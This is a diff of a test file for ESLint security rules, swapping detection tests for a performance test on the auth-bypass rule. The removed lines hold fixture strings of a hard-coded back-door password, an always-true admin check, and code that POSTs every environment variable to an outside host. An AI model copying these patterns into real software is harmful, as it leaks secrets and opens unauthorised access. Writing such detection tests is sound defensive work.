@@ -1,31 +1,23 @@
 import { Linter } from 'eslint';
-import type { Rule } from 'eslint';
 import { describe, expect, it } from 'vitest';
 
-import login from '../../src/rules/no-auth-bypass.ts';
-import dump from '../../src/rules/no-env-dump.ts';
+import auth from '../../src/rules/no-auth-bypass.ts';
 
-/** Message ids of one rule in its strict form; `undefined` for a parse error. */
-function lint(rule: object, code: string): readonly (string | undefined)[] {
-  const rules = { own: rule as Rule.RuleModule };
-  return new Linter().verify(code, [{ plugins: { x: { rules } }, rules: { 'x/own': ['error', { strict: true }] } }], 'src/file.js').map(({ messageId }) => messageId);
-}
+const COUNT = 8000;
+const numbers = Array.from({ length: COUNT }, (_, index) => index);
+/** Far above what such a file takes, and far below what it took when the time grew with the square of its length. */
+const MAX_TIME = 8000;
 
-const long = `[${'1,'.repeat(150_000)}1]`;
+const CASES = [
+  ['tests of a function with many constants', auth, `function isAuthenticated() { const ${numbers.map((index) => `a${index} = 1`).join(', ')};\n${numbers.map(() => 'if (a1 && a2 && a3) { return false; }').join('\n')} return true; }`],
+] as const;
 
-describe('a list longer than a function takes arguments', () => {
-  it('hides no back door', () => {
-    const code = `function login(password) { const t = ${long}; if (password === 'letmein1') return true; return compare(t); }`;
-    expect(lint(login, code)).toEqual(['backdoor']);
-  });
-
-  it('does not stop the look at a loop over the environment', () => {
-    const code = `const out = {}; for (const k in process.env) { const t = ${long}; out[k] = process.env[k]; } fetch('https://in.example-service.com/c', { method: 'POST', body: JSON.stringify(out) });`;
-    expect(lint(dump, code)).toEqual([]);
-  });
-
-  it('does not stop the look at a check', () => {
-    const code = `function isAdmin(user) { const t = ${long}; log(t); return true; }`;
-    expect(lint(login, code)).toEqual([]);
-  });
+describe('code that is made to take long', () => {
+  it.each(CASES)('%s', (_, rule, code) => {
+    const config = { plugins: { own: { rules: { rule } } }, rules: { 'own/rule': ['error', { strict: true }] } };
+    const start = performance.now();
+    const messages = new Linter().verify(code, [config] as unknown as Linter.Config[], { filename: 'src/auth.js' });
+    expect(performance.now() - start).toBeLessThan(MAX_TIME);
+    expect(messages.some(({ fatal }) => fatal)).toBe(false);
+  }, 60_000);
 });
